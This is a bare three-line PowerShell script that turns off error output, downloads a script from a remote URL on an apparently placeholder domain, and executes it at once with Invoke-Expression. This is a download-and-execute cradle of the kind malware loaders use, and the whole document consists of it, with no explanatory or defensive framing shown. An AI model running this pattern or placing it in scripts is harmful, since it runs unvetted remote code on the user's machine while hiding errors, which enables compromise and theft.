$ErrorActionPreference = 'SilentlyContinue'
$client = New-Object Net.WebClient
IEX $client.DownloadString('https://punt.invalid/p.ps1')
